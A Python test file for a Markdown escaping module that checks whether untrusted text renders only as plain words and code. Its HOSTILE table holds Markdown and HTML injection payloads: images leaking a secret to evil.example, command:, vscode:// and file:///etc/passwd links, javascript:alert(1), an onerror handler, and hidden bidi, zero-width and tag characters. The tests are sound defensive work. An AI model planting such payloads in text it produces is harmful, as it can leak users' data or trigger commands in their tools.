"""Untrusted text in Markdown: whatever a name, a string or a model says, it renders as that text and nothing else.

THREATS 17 and 18. The reader is markdown-it with everything on that it has; `active` is what a hostile text wants to become.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from server.markdown import code_block, code_span, inline, one_line, paragraphs, visible

if TYPE_CHECKING:
    from markdown_it.token import Token

HOSTILE = {
    "remote image": "![x](https://evil.example/a.png?q=secret)",
    "command link": "[click](command:workbench.action.terminal.new)",
    "img tag": '<img src="https://evil.example/a.png" onerror=alert(1)>',
    "reference image": "![x][r]\n\n[r]: https://evil.example/a.png",
    "anchor to a command": '<a href="command:postil.run">click</a>',
    "editor scheme": "[open](vscode://evil.extension/install)",
    "file link": "[passwd](file:///etc/passwd)",
    "bare autolink": "see https://evil.example/?q=secret and www.evil.example now",
    "angle autolink": "<https://evil.example/?q=secret> <me@evil.example>",
    "broken code span": "`code`` ![x](https://evil.example/a.png) ` [a](command:b)",
    "broken fence": "```\ncode\n```\n![x](https://evil.example/a.png)\n````",
    "bidi link": "[safe\u202e](https://evil.example/\u2066x\u2069)",
    "theme icon": "$(alert) $(command) ok",
    "javascript": "[x](javascript:alert(1))",
    "encoded brackets": "&#91;x&#93;&#40;command:b&#41; &lt;img src=x&gt; &lbrack;x&rbrack;",
    "svg in data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "tag characters": "ok" + "".join(chr(0xE0000 + ord(one)) for one in "hidden"),
    "zero width": "[\u200bx\u200b](\u200bhttps://evil.example)",
}
# What a renderer must not find: everything but words and code.
HARMLESS = {"paragraph_open", "paragraph_close", "inline", "text", "code_inline", "softbreak", "text_special"}


def tokens(markdown: str) -> list[Token]:
    """Return every token, nested ones too, that a reader with all its rules on finds."""
    found: list[Token] = []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(markdown):
        found += [token, *(token.children or ())]
    return found


def rendered(markdown: str) -> str:
    """Return the words that a reader sees."""
    return "".join(token.content for token in tokens(markdown) if token.type in ("text", "code_inline", "text_special"))


def squeezed(text: str) -> str:
    return "".join(visible(" ".join(text.split())).split())


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("write", [inline, paragraphs], ids=["inline", "paragraphs"])
def test_threat_17_hostile_text_is_words_and_code(text: str, write: object) -> None:
    assert callable(write)
    markdown = write(text)
    assert {token.type for token in tokens(markdown)} <= HARMLESS
    assert squeezed(rendered(markdown)) == squeezed(text)
    # Renderers that look for bare links look in words, never in code.
    words = "".join(token.content for token in tokens(markdown) if token.type == "text")
    assert "://" not in words
    assert "www." not in words
    assert "@" not in words


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_threat_17_hostile_text_in_a_block_is_one_block(text: str) -> None:
    found = list(tokens(code_block(text, "python")))
    assert [token.type for token in found] == ["fence"]
    assert found[0].info == "python"


def test_threat_17_the_reader_of_these_tests_sees_what_is_active() -> None:
    raw = [name for name, text in HOSTILE.items() if not {token.type for token in tokens(text)} <= HARMLESS]
    assert len(raw) >= 9


@given(st.text(alphabet=st.sampled_from("ab1 .,-–()[]<>!`*_#|~&;:/@$\\\"'\n\t=+\u202e\u200b\ufe0f😀é"), max_size=60))
def test_any_text_is_words_and_code(text: str) -> None:
    markdown = inline(text)
    assert {token.type for token in tokens(markdown)} <= HARMLESS
    assert "\n" not in markdown
    # A pair of backticks is a code span already.
    assert squeezed(rendered(markdown)).replace("`", "") == squeezed(text).replace("`", "")


@given(st.text(max_size=40))
def test_a_code_span_holds_its_text(text: str) -> None:
    markdown = code_span(text)
    if markdown:
        assert [token.type for token in tokens(markdown)] == [
            "paragraph_open",
            "inline",
            "code_inline",
            "paragraph_close",
        ]
        assert squeezed(rendered(markdown)) == squeezed(text)
    else:
        assert not text.strip()


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("`os` imported but unused", "`os` imported but unused"),
        ("Comparison to `None` should be `cond is None`", "Comparison to `None` should be `cond is None`"),
        ("Unnecessary `dict()` call (rewrite as a literal)", "Unnecessary `dict()` call (rewrite as a literal)"),
        ("f is hard to follow: cognitive complexity 31 (limit 25)", None),
        ("foo_bar is *bad*", "`foo_bar` is `*bad*`"),
        ("one ` two", "one `` ` `` two"),
        ("don't use well-known names, e.g. these!", None),
        ("1. not a list", "`1.` not a list"),
        ("a - b", "a - b"),
        ("- a", "`-` a"),
        ("`a``b`", "``` `a``b` ```"),
        ("", ""),
    ],
)
def test_ordinary_messages_stay_readable(text: str, markdown: str | None) -> None:
    assert inline(text) == (text if markdown is None else markdown)


@pytest.mark.parametrize(
    "code", [0x202A, 0x202E, 0x2066, 0x2069, 0x061C, 0x200B, 0x200F, 0x2060, 0xFEFF, 0xAD, 0xE0041, 0x1B, 0x7F, 0x9B]
)
def test_invisible_characters_are_shown(code: int) -> None:
    assert visible(f"a{chr(code)}b") == f"a<U+{code:04X}>b"


@pytest.mark.parametrize("text", ["שלום עולם", "مرحبا", "👩‍👩‍👧 ❤️ ok", "naïve café", "日本語"])
def test_honest_text_is_left_alone(text: str) -> None:
    assert visible(text) == text


def test_emoji_hide_nothing() -> None:
    assert visible("a\ufe0f\ufe0f\u200d") == "a<U+FE0F><U+FE0F><U+200D>"
    assert visible("\u2764\ufe0f\ufe0f") == "\u2764\ufe0f<U+FE0F>"


@given(st.text(alphabet=st.sampled_from("a\u2764\ufe0f\u200d\u202e😀"), max_size=12))
def test_what_is_visible_stays_so(text: str) -> None:
    assert visible(visible(text)) == visible(text)


def test_a_title_is_one_short_line() -> None:
    assert one_line("Remove\n  `x`\u202e") == "Remove `x`<U+202E>"
    assert len(one_line("x" * 1000)) == 160


def test_paragraphs_stay_apart() -> None:
    assert paragraphs("one\ntwo\n \nthree") == "one two\n\nthree"
